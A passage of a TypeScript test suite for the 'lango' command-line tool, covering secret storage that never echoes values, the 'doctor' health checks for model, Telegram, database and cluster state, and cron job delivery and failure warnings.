    const shown = await json<{ summary: string }>(['approvals', 'show', id])
    expect(shown.data.summary).toBe(`Execute: ⟦${command}⟧`)
    const unknown = await lango(['approvals', 'show', 'no-such-approval'])
    expect(unknown.code).not.toBe(0)
    await lango(['approvals', 'deny', id])
  })
})

describe('lango secrets', () => {
  it('set from stdin, list names and tokens only, delete; the value is never printed', async () => {
    const value = 'sk-canary-7c1f3e9a2b'
    const env = { LANGO_PASSPHRASE: 'correct horse battery staple' }
    const set = await json<{ status: string; token: string }>(['secrets', 'set', 'CLI_CANARY'], {
      env,
      input: `${value}\n`,
    })
    expect(set.code, set.stdout).toBe(0)
    expect(set.data).toMatchObject({ status: 'created', token: '{{secret:CLI_CANARY}}' })
    const listed = await json<{ secrets: { name: string; token: string }[] }>(['secrets', 'list'], { env })
    expect(listed.data.secrets).toEqual([
      expect.objectContaining({ name: 'CLI_CANARY', token: '{{secret:CLI_CANARY}}' }),
    ])
    const removed = await lango(['secrets', 'delete', 'CLI_CANARY'], { env })
    expect(removed.code).toBe(0)
    for (const result of [set, listed, removed])
      expect(`${result.stdout}${result.stderr}`).not.toContain(value)
    // Nothing under LANGO_HOME holds the value in the clear (the database keeps ciphertext).
    for (const name of await readdir(home)) {
      const path = join(home, name)
      if (name.startsWith('lango.db')) expect((await readFile(path)).includes(value)).toBe(false)
    }
  })

  it('set on a terminal asks at a prompt that does not echo the value', async () => {
    const value = 'tty-canary-5d2e8f01'
    const terminal = spawnPty(process.execPath, [CLI, 'secrets', 'set', 'CLI_TTY'], {
      cols: 100,
      rows: 10,
      env: {
        ...process.env,
        LANGO_HOME: home,
        LANGO_PASSPHRASE: 'correct horse battery staple',
        NO_COLOR: '1',
      },
    })
    let screen = ''
    const exited = new Promise<number>((resolve) => terminal.onExit(({ exitCode }) => resolve(exitCode)))
    terminal.onData((data) => {
      const first = !screen.includes('Value for CLI_TTY')
      screen += data
      // Typed as a person would, a moment after the prompt appears.
      if (first && screen.includes('Value for CLI_TTY')) setTimeout(() => terminal.write(`${value}\r`), 100)
    })
    expect(await exited).toBe(0)
    expect(screen).toContain('created secret CLI_TTY')
    expect(screen).not.toContain(value)
  })
})

describe('lango doctor', () => {
  it('reports every check as JSON; a rejected Telegram token fails it (exit 1), a reachable model passes', async () => {
    const model = await fakeService((request, response) => {
      response.setHeader('content-type', 'application/json')
      if (request.url === '/v1/models' && request.headers.authorization === 'Bearer model-key-123')
        response.end(JSON.stringify({ data: [{ id: 'tiny-model' }] }))
      else {
        response.statusCode = 401
        response.end('{}')
      }
    })
    const telegram = await fakeService((request, response) => {
      response.setHeader('content-type', 'application/json')
      const ok = request.url === '/bot12345:good-token-1/getMe'
      response.statusCode = ok ? 200 : 401
      response.end(JSON.stringify(ok ? { ok: true, result: { username: 'lango_bot' } } : { ok: false }))
    })
    try {
      const env = {
        LANGO_MODEL_BASE_URL: `${model.url}/v1`,
        LANGO_MODEL: 'tiny-model',
        LANGO_MODEL_API_KEY: 'model-key-123',
        LANGO_TELEGRAM_API_URL: telegram.url,
      }
      type Report = { ok: boolean; checks: { name: string; status: string; message: string; fix?: string }[] }
      const byName = (report: Report) => Object.fromEntries(report.checks.map((check) => [check.name, check]))

      const healthy = await json<Report>(['doctor'], {
        env: { ...env, LANGO_TELEGRAM_TOKEN: '12345:good-token-1' },
      })
      expect(healthy.code).toBe(0)
      expect(healthy.data.ok).toBe(true)
      const checks = byName(healthy.data)
      for (const name of ['config', 'database', 'better-sqlite3', 'node-pty', 'server', 'model', 'telegram'])
        expect(checks[name], name).toMatchObject({ status: 'ok' })
      expect(checks.channels?.message).toContain('telegram')
      // The cluster: this test's one server on its database.
      expect(checks.server?.message).toContain('1 instance on its database')
      // … and which server runs each singleton duty.
      expect(checks.server?.message).toMatch(/; leases: retention on [^:]+:\d+/)

      // Without a channel or a default target, results stay in the run history, as the README says.
      const alone = await json<Report>(['doctor'], { env })
      expect(byName(alone.data).channels?.message).toBe(
        'none configured: results are kept in the run history only (lango cron history, the dashboard)',
      )

      const rejected = await json<Report>(['doctor'], {
        env: { ...env, LANGO_TELEGRAM_TOKEN: '12345:bad-token-2' },
      })
      expect(rejected.code).toBe(1)
      expect(byName(rejected.data).telegram).toMatchObject({
        status: 'fail',
        message: 'the Bot API refused the token (401)',
        fix: expect.stringContaining('LANGO_TELEGRAM_TOKEN'),
      })
      // A token the server could not even start Telegram with is said as such, before any request.
      const malformed = await json<Report>(['doctor'], {
        env: { ...env, LANGO_TELEGRAM_TOKEN: 'malformed-token-3' },
      })
      expect(malformed.code).toBe(1)
      expect(byName(malformed.data).telegram).toMatchObject({
        status: 'fail',
        message:
          'the server cannot start this channel: telegram: the bot token must look like <digits>:<letters> (from @BotFather)',
        fix: expect.stringContaining('LANGO_TELEGRAM_TOKEN'),
      })
      expect(byName(malformed.data).channels).toMatchObject({ status: 'ok' })
      for (const result of [healthy, rejected, malformed])
        for (const secret of ['good-token-1', 'bad-token-2', 'malformed-token-3', 'model-key-123'])
          expect(`${result.stdout}${result.stderr}`).not.toContain(secret)

      const human = await lango(['doctor'], { env: { LANGO_URL: `http://127.0.0.1:${await closedPort()}` } })
      expect(human.code).toBe(0)
      expect(human.stdout).toMatch(/^warn\s+server\s+not running at .*\n\s+→ start it with `lango serve`/m)
      expect(human.stdout).toMatch(/^warn\s+model\s+no model configured/m)
    } finally {
      model.close()
      telegram.close()
    }
  })

  it('warns about a server on the database that stopped answering (killed without deregistering), after the running server removed it', async () => {
    const database = new Database(join(home as string, 'lango.db'))
    database.pragma('busy_timeout = 5000')
    database
      .prepare(
        'insert into instances (id, host, pid, version, started_at, heartbeat_at) values (?, ?, ?, ?, ?, ?)',
      )
      .run('gone', 'old-host', 4242, '0.1.0', 1, 1)
    try {
      // The running server takes it for dead at its next heartbeat and removes its row.
      await waitFor(() => database.prepare("select 1 from instances where id = 'gone'").get() === undefined, {
        what: 'the running server to remove the dead instance',
      })
      const listed = (await (await fetch(`${url}/api/instances`)).json()) as {
        instances: { id: string }[]
        lost: { id: string; host: string; pid: number; heartbeat_at: string; found_at: string }[]
      }
      expect(listed.instances.map((instance) => instance.id)).not.toContain('gone')
      expect(listed.lost).toEqual([
        expect.objectContaining({
          id: 'gone',
          host: 'old-host',
          pid: 4242,
          heartbeat_at: new Date(1).toISOString(),
        }),
      ])
      type Report = { checks: { name: string; status: string; message: string; fix?: string }[] }
      const report = await json<Report>(['doctor'])
      expect(report.data.checks.find((check) => check.name === 'server')).toMatchObject({
        status: 'warn',
        message: expect.stringContaining(
          `1 instance on its database, 1 taken for dead in the last day (old-host:4242 at ${listed.lost[0]?.found_at})`,
        ),
        fix: expect.stringContaining("find why in its host's log"),
      })
    } finally {
      database.prepare("delete from instances where id = 'gone'").run()
      database.close()
    }
  })

  it('warns about servers on the database with different cluster.lease values', async () => {
    const database = new Database(join(home as string, 'lango.db'))
    database.pragma('busy_timeout = 5000')
    // Another server, alive (it beat just now) with a 999 s lease.
    database
      .prepare(
        'insert into instances (id, host, pid, version, started_at, heartbeat_at, lease_ms) values (?, ?, ?, ?, ?, ?, ?)',
      )
      .run('other', 'other-host', 4343, '0.1.0', Date.now(), Date.now(), 999_000)
    try {
      type Report = { checks: { name: string; status: string; message: string; fix?: string }[] }
      const report = await json<Report>(['doctor'])
      expect(report.data.checks.find((check) => check.name === 'server')).toMatchObject({
        status: 'warn',
        message: expect.stringMatching(/with different cluster\.lease values \(.*other-host:4343 999s/),
        fix: expect.stringContaining('set the same cluster.lease on every server'),
      })
    } finally {
      database.prepare("delete from instances where id = 'other'").run()
      database.close()
    }
  })

  it('warns about a result that did not reach its target, with the reason, and says where alerts go', async () => {
    type Report = {
      checks: {
        name: string
        status: string
        message: string
        fix?: string
        details?: Record<string, unknown>
      }[]
    }
    const deliveries = (report: Report) => report.checks.find((check) => check.name === 'deliveries')
    // A job made while Slack was configured, then Slack taken out of the configuration: the job
    // still names slack:C0123ABCD (a target no channel here serves is refused when a job is made,
    // so it is written as the earlier server stored it), and every delivery there fails for good.
    expect(
      (
        await lango([
          'cron',
          'add',
          'doctor-undeliverable',
          '--schedule',
          '0 0 1 1 *',
          '--command',
          'echo hi',
        ])
      ).code,
    ).toBe(0)
    const stored = new Database(join(home as string, 'lango.db'))
    stored.pragma('busy_timeout = 5000')
    try {
      stored
        .prepare("update cron_jobs set deliver_to = ?, updated_at = ? where name = 'doctor-undeliverable'")
        .run(JSON.stringify(['slack:C0123ABCD']), Date.now())
    } finally {
      stored.close()
    }
    try {
      expect((await lango(['cron', 'trigger', 'doctor-undeliverable', '--wait'])).code).toBe(0)
      const report = await json<Report>(['doctor'])
      expect(report.code).toBe(0)
      expect(deliveries(report.data)).toMatchObject({
        status: 'warn',
        message: expect.stringMatching(
          /^0 waiting for a retry, 1 failed \(of the newest \d+ runs\); alerts: logged only/,
        ),
        fix: expect.stringContaining('lango cron trigger <name>'),
        details: {
          failed: [expect.objectContaining({ job: 'doctor-undeliverable', target: 'slack:C0123ABCD' })],
          alerts: { targets: [], failing: false },
        },
      })
      expect(deliveries(report.data)?.message).toMatch(
        /failed: doctor-undeliverable → slack:C0123ABCD \(.+\)/,
      )

      // A busy server: 200 newer runs of another job push the failed one out of the newest runs.
      expect(
        (await lango(['cron', 'add', 'doctor-busy', '--schedule', '0 0 1 1 *', '--command', 'true'])).code,
      ).toBe(0)
      const busy = await json<{ job: { id: string } }>(['cron', 'get', 'doctor-busy'])
      const database = new Database(join(home as string, 'lango.db'))
      database.pragma('busy_timeout = 5000')
      try {
        const insert = database.prepare(
          "insert into cron_runs (id, job_id, job_name, trigger, status, scheduled_for, started_at, completed_at, duration_ms, result, delivery_status) values (?, ?, 'doctor-busy', 'manual', 'completed', ?, ?, ?, 1, 'ok', 'none')",
        )
        const now = Date.now() + 60_000
        database.transaction(() => {
          for (let index = 0; index < 200; index++)
            insert.run(`doctor-busy-${index}`, busy.data.job.id, now + index, now + index, now + index + 1)
        })()
      } finally {
        database.close()
      }
      const later = await json<Report>(['doctor'])
      expect(deliveries(later.data)).toMatchObject({
        status: 'warn',
        message: expect.stringMatching(
          /^0 waiting for a retry, 1 failed \(of the newest 200 runs and 1 older, of the 1 job whose last delivery failed\)/,
        ),
        details: {
          failed: [expect.objectContaining({ job: 'doctor-undeliverable', target: 'slack:C0123ABCD' })],
        },
      })
    } finally {
      await lango(['cron', 'remove', 'doctor-undeliverable'])
      await lango(['cron', 'remove', 'doctor-busy'])
    }
  })

  it('adds a webhook job with --webhook (never by the clock), and refuses it beside another schedule', async () => {
    const added = await json<{ job: { schedule_type: string; schedule: string; overlap: string } }>([
      'cron',
      'add',
      'cli-on-deploy',
      '--webhook',
      'deploy-done',
      '--command',
      'true',
    ])
    expect(added.code).toBe(0)
    expect(added.data.job).toMatchObject({
      schedule_type: 'webhook',
      schedule: 'deploy-done',
      overlap: 'queue_one',
    })
    const both = await lango([
      'cron',
      'add',
      'cli-on-deploy-2',
      '--webhook',
      'x',
      '--every',
      '1h',
      '--command',
      'true',
    ])
    expect(both.code).toBe(2)
    expect(both.stderr).toContain("'--every <duration>' cannot be used with option '--webhook <hook>'")
    await lango(['cron', 'remove', 'cli-on-deploy'])
  })

  it('warns about a job whose next run is in the past and one failing in a row, by name', async () => {
    for (const name of ['doctor-overdue', 'doctor-failing'])
      expect((await lango(['cron', 'add', name, '--schedule', '0 0 1 1 *', '--command', 'true'])).code).toBe(
        0,
      )
    type Report = {
      ok: boolean
      checks: {
        name: string
        status: string
        message: string
        fix?: string
        details?: Record<string, unknown>
      }[]
    }
    const cronCheck = (report: Report) => report.checks.find((check) => check.name === 'cron jobs')
    expect(cronCheck((await json<Report>(['doctor'])).data)).toMatchObject({ status: 'ok' })
    // What a stalled scheduler and a broken job leave in the database: a next run years ago, and
    // the last four runs failed.
    const database = new Database(join(home as string, 'lango.db'))
    database.pragma('busy_timeout = 5000')
    const overdueAt = Date.parse('2020-01-01T00:00:00Z')
    database.prepare("update cron_jobs set next_run_at = ? where name = 'doctor-overdue'").run(overdueAt)
    database
      .prepare(
        "update cron_jobs set consecutive_failures = 4, last_status = 'failed' where name = 'doctor-failing'",
      )
      .run()
    database.close()
    try {
      const report = await json<Report>(['doctor'])
      expect(report.code).toBe(0)
      expect(cronCheck(report.data)).toMatchObject({
        status: 'warn',
        message: expect.stringContaining(
          'next run in the past: doctor-overdue (due 2020-01-01T00:00:00.000Z',
        ),
        fix: expect.stringContaining('lango cron history <name>'),
        details: {
          overdue: [{ name: 'doctor-overdue', next_run_at: '2020-01-01T00:00:00.000Z' }],
          failing: [
            { name: 'doctor-failing', consecutive_failures: 4, last_status: 'failed', paused: false },
          ],
        },
      })
      expect(cronCheck(report.data)?.message).toContain(
        'failing in a row: doctor-failing (4 runs, last failed)',
      )
      const human = await lango(['doctor'])
      expect(human.stdout).toMatch(/^warn\s+cron jobs\s+\d+ jobs?; 1 overdue, 1 failing in a row\n/m)
      expect(human.stdout).toContain('doctor-overdue')
    } finally {
      for (const name of ['doctor-overdue', 'doctor-failing']) await lango(['cron', 'remove', name])
    }
  })

  it('warns about a job the scheduler paused for failing, below three failures in a row (cron.max_consecutive_failures: 2)', async () => {
    expect(
      (await lango(['cron', 'add', 'doctor-paused', '--schedule', '0 0 1 1 *', '--command', 'true'])).code,
    ).toBe(0)
    type Report = { checks: { name: string; status: string; message: string }[] }
    const database = new Database(join(home as string, 'lango.db'))
    database.pragma('busy_timeout = 5000')
    // As the scheduler leaves a job it paused after its second failure in a row.
    database
      .prepare(
        "update cron_jobs set enabled = 0, consecutive_failures = 2, last_status = 'failed', pause_reason = 'paused after 2 failed runs in a row (cron.max_consecutive_failures)' where name = 'doctor-paused'",
      )
      .run()
    database.close()
    try {
      const report = await json<Report>(['doctor'])
      expect(report.data.checks.find((check) => check.name === 'cron jobs')).toMatchObject({
        status: 'warn',
        message: expect.stringContaining('doctor-paused (2 runs, last failed, paused)'),
      })
    } finally {
      await lango(['cron', 'remove', 'doctor-paused'])
    }
  })

  it('checks a PostgreSQL database: reachable passes, a wrong password fails without showing it', async () => {
    type Report = { checks: { name: string; status: string; message: string; fix?: string }[] }
    const database = (report: Report) => report.checks.find((check) => check.name === 'database')
    const reachable = await json<Report>(['doctor'], {
      env: { LANGO_DATABASE_URL: 'postgres://postgres@127.0.0.1:5432/test' },
    })
    expect(database(reachable.data)).toMatchObject({
      status: 'ok',
      message: expect.stringContaining('postgres://127.0.0.1:5432/test answers'),
    })
    const refused = await json<Report>(['doctor'], {
      env: { LANGO_DATABASE_URL: `postgres://nobody:pw-never-shown@127.0.0.1:${await closedPort()}/test` },
    })
    expect(refused.code).toBe(1)
    expect(database(refused.data)).toMatchObject({
      status: 'fail',
      fix: expect.stringContaining('LANGO_DATABASE_URL'),
    })
    expect(`${refused.stdout}${refused.stderr}`).not.toContain('pw-never-shown')
  })
})
